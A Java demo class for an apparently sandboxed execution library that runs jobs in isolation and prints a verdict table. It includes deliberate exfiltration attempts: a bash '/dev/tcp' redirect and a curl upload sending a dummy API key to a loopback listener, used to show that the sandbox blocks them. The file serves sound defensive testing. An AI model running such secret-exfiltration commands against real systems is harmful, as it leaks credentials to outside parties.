package dev.cavesandbox.sample;

import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

import dev.cavesandbox.CaveSandboxException;
import dev.cavesandbox.EgressUnavailableException;
import dev.cavesandbox.ExecutionRequest;
import dev.cavesandbox.ExecutionResult;
import dev.cavesandbox.IsolatedExecutor;
import dev.cavesandbox.NetworkIsolationUnavailableException;
import dev.cavesandbox.egress.EgressDecision;
import org.jspecify.annotations.Nullable;

import org.springframework.beans.factory.annotation.Value;
import org.springframework.stereotype.Component;

/**
 * The demo: real programs in the sandbox, each row showing mechanism, exit code, time and
 * verdict.
 * <ol>
 * <li>A script reads a secret and tries to send it to a listener that this app opens on
 * the host's loopback: blocked, and the listener receives nothing.</li>
 * <li>A DNS lookup fails (only run when isolated: unisolated, it would send a real
 * query).</li>
 * <li>A useful offline job: {@code sha256sum} of a file (the one given with
 * {@code --sample.input}, or a generated one), checked against the JVM's own
 * SHA-256.</li>
 * <li>A runaway job, with a background child, killed by the timeout; no process is
 * left.</li>
 * <li>A document conversion: LibreOffice turns an upload into a PDF
 * ({@link DocumentConversion}).</li>
 * </ol>
 */
@Component
class DemoReport {

	private final IsolatedExecutor executor;

	private final @Nullable Path input;

	DemoReport(IsolatedExecutor executor, @Value("${sample.input:}") String input) {
		this.executor = executor;
		this.input = input.isEmpty() ? null : Path.of(input);
	}

	/**
	 * Run the demo and print the report.
	 * @param out where to print
	 * @return 0 if every row had the expected verdict, 1 otherwise
	 */
	int run(PrintStream out) throws IOException {
		Path workspace = Files.createTempDirectory("cave-sandbox-demo-");
		try {
			List<Row> rows = new ArrayList<>();
			rows.add(row("exfiltrate a secret to the host's loopback", () -> exfiltration(workspace)));
			rows.add(row("send a secret through the egress allow-list", () -> egress(workspace)));
			rows.add(row("DNS lookup of example.com", this::dnsLookup));
			rows.add(row("sha256sum of a file (offline)", () -> checksum(workspace)));
			rows.add(row("runaway busy loop + background child, timeout 2 s", this::runaway));
			rows.add(row(DocumentConversion.JOB, () -> DocumentConversion.convert(this.executor)));
			print(out, rows);
			return rows.stream().allMatch(Row::expected) ? 0 : 1;
		}
		finally {
			try (var files = Files.walk(workspace)) {
				files.sorted(java.util.Comparator.reverseOrder()).forEach((file) -> file.toFile().delete());
			}
		}
	}

	/**
	 * Run one row; in strict mode on a host without isolation every execution is refused,
	 * which is the expected, fail-closed answer.
	 */
	private static Row row(String job, RowJob run) throws IOException {
		try {
			return run.get();
		}
		catch (CaveSandboxException ex) {
			return new Row(job, null, "REFUSED: " + ex.code(), ex instanceof NetworkIsolationUnavailableException);
		}
	}

	private Row exfiltration(Path workspace) throws IOException {
		Path secret = Files.writeString(workspace.resolve("secret.txt"), "api-key=sk-demo-" + UUID.randomUUID() + "\n");
		try (ServerSocket listener = new ServerSocket()) {
			listener.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
			String script = "cat " + secret.getFileName() + " > /dev/tcp/127.0.0.1/" + listener.getLocalPort();
			ExecutionResult result = this.executor.execute(ExecutionRequest.builder("bash", "-c", script)
				.workingDirectory(workspace)
				.timeout(Duration.ofSeconds(10))
				.build());
			int received = receivedBytes(listener);
			boolean blocked = received == 0;
			return new Row("exfiltrate a secret to 127.0.0.1:" + listener.getLocalPort(), result,
					blocked ? "BLOCKED: the listener received 0 bytes"
							: "LEAKED: the listener received " + received + " bytes",
					blocked == result.isolation().networkIsolated());
		}
	}

	/**
	 * The egress proxy's SSRF guard: the command may use the proxy for the listener's
	 * address (the allow-list names it), but the proxy refuses a loopback destination, so
	 * nothing arrives. On a mechanism without a network namespace the request is refused
	 * before anything runs.
	 */
	private Row egress(Path workspace) throws IOException {
		Path secret = Files.writeString(workspace.resolve("egress-secret.txt"), "api-key=sk-demo-" + UUID.randomUUID());
		try (ServerSocket listener = new ServerSocket()) {
			listener.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
			String target = "127.0.0.1:" + listener.getLocalPort();
			String job = "allow-list " + target + ", send a secret there";
			ExecutionResult result;
			try {
				result = this.executor.execute(ExecutionRequest
					.builder("curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--data-binary",
							"@" + secret.getFileName(), "http://" + target + "/")
					.allowedHosts(target)
					.workingDirectory(workspace)
					.timeout(Duration.ofSeconds(10))
					.build());
			}
			catch (EgressUnavailableException ex) {
				return new Row(job, null, "REFUSED: " + ex.code() + " (this mechanism has no network namespace)", true);
			}
			int received = receivedBytes(listener);
			boolean blocked = received == 0;
			String reasons = result.egressDecisions()
				.stream()
				.map(EgressDecision::reason)
				.distinct()
				.collect(Collectors.joining(","));
			return new Row(job, result,
					blocked ? "BLOCKED: the proxy answered " + result.stdoutText() + " (" + reasons
							+ ": loopback is not a public destination), 0 bytes arrived"
							: "LEAKED: the listener received " + received + " bytes",
					blocked == result.isolation().networkIsolated());
		}
	}

	private static int receivedBytes(ServerSocket listener) throws IOException {
		listener.setSoTimeout(500);
		int total = 0;
		while (true) {
			try (Socket socket = listener.accept(); InputStream in = socket.getInputStream()) {
				socket.setSoTimeout(2000);
				total += in.readAllBytes().length;
			}
			catch (SocketTimeoutException ex) {
				return total;
			}
		}
	}

	private Row dnsLookup() {
		if (!this.executor.isolation().networkIsolated()) {
			return new Row("DNS lookup of example.com", null,
					"SKIPPED: not isolated (fallback mode), the demo sends no real query", true);
		}
		ExecutionResult result = this.executor.execute("getent", "hosts", "example.com");
		boolean failed = result.exitCode() != 0;
		return new Row("DNS lookup of example.com", result,
				failed ? "FAILED as it should: no resolver is reachable" : "RESOLVED: " + result.stdoutText().trim(),
				failed);
	}

	private Row checksum(Path workspace) throws IOException {
		// The command sees its working directory, not the host's /tmp (hidden): the input
		// is put there.
		Path file = (this.input != null) ? Files.copy(this.input, workspace.resolve(this.input.getFileName()))
				: generatedInput(workspace);
		ExecutionResult result = this.executor
			.execute(ExecutionRequest.builder("sha256sum", file.getFileName().toString())
				.workingDirectory(workspace)
				.build());
		String expected = sha256(file);
		String actual = result.stdoutText().isEmpty() ? "" : result.stdoutText().split(" ")[0];
		boolean matches = result.succeeded() && actual.equals(expected);
		return new Row("sha256sum " + file.getFileName() + " (" + Files.size(file) + " bytes, offline)", result,
				matches ? "OK: " + actual.substring(0, 16) + "... matches the JVM's SHA-256"
						: "WRONG: got '" + actual + "', expected " + expected,
				matches);
	}

	private Row runaway() {
		String marker = String.valueOf(600000 + new Random().nextInt(300000));
		String script = "sleep " + marker + " & while :; do :; done";
		ExecutionResult result = this.executor
			.execute(ExecutionRequest.builder("sh", "-c", script).timeout(Duration.ofSeconds(2)).build());
		// The shell and its sleep, and nothing whose command line only starts the same
		// way.
		Pattern tree = Pattern.compile("(^|[ /])sleep " + marker + "( |$)");
		long left = ProcessHandle.allProcesses()
			.filter((process) -> tree.matcher(process.info().commandLine().orElse("")).find())
			.count();
		boolean killed = result.timedOut() && left == 0;
		return new Row("runaway busy loop + background child, timeout 2 s", result,
				killed ? "KILLED by the timeout, 0 processes left" : "NOT KILLED: " + left + " processes left", killed);
	}

	private static Path generatedInput(Path workspace) throws IOException {
		byte[] bytes = new byte[1024 * 1024];
		new Random(42).nextBytes(bytes);
		return Files.write(workspace.resolve("upload.bin"), bytes);
	}

	private static String sha256(Path file) {
		try (InputStream in = Files.newInputStream(file)) {
			MessageDigest digest = MessageDigest.getInstance("SHA-256");
			byte[] buffer = new byte[64 * 1024];
			int n;
			while ((n = in.read(buffer)) != -1) {
				digest.update(buffer, 0, n);
			}
			return HexFormat.of().formatHex(digest.digest());
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		catch (NoSuchAlgorithmException ex) {
			throw new IllegalStateException(ex);
		}
	}

	private void print(PrintStream out, List<Row> rows) {
		String isolation;
		try {
			isolation = String.valueOf(this.executor.isolation());
		}
		catch (NetworkIsolationUnavailableException ex) {
			isolation = "none: strict mode refuses every execution (" + ex.cause() + ")";
		}
		out.println();
		out.println("cave-sandbox demo — isolation: " + isolation);
		String format = "%-58s %-10s %5s %8s  %s%n";
		out.printf(format, "JOB", "MECHANISM", "EXIT", "TIME", "VERDICT");
		for (Row row : rows) {
			ExecutionResult result = row.result();
			out.printf(format, row.job(), (result != null) ? result.isolation().mechanism() : "-",
					(result != null) ? (result.timedOut() ? "kill" : String.valueOf(result.exitCode())) : "-",
					(result != null) ? result.wallTime().toMillis() + " ms" : "-", row.verdict());
		}
		out.println();
		out.println(rows.stream().allMatch(Row::expected) ? "Every row behaved as expected."
				: "Some rows did NOT behave as expected: see the verdicts.");
	}

	record Row(String job, @Nullable ExecutionResult result, String verdict, boolean expected) {
	}

	@FunctionalInterface
	private interface RowJob {

		Row get() throws IOException;

	}

}
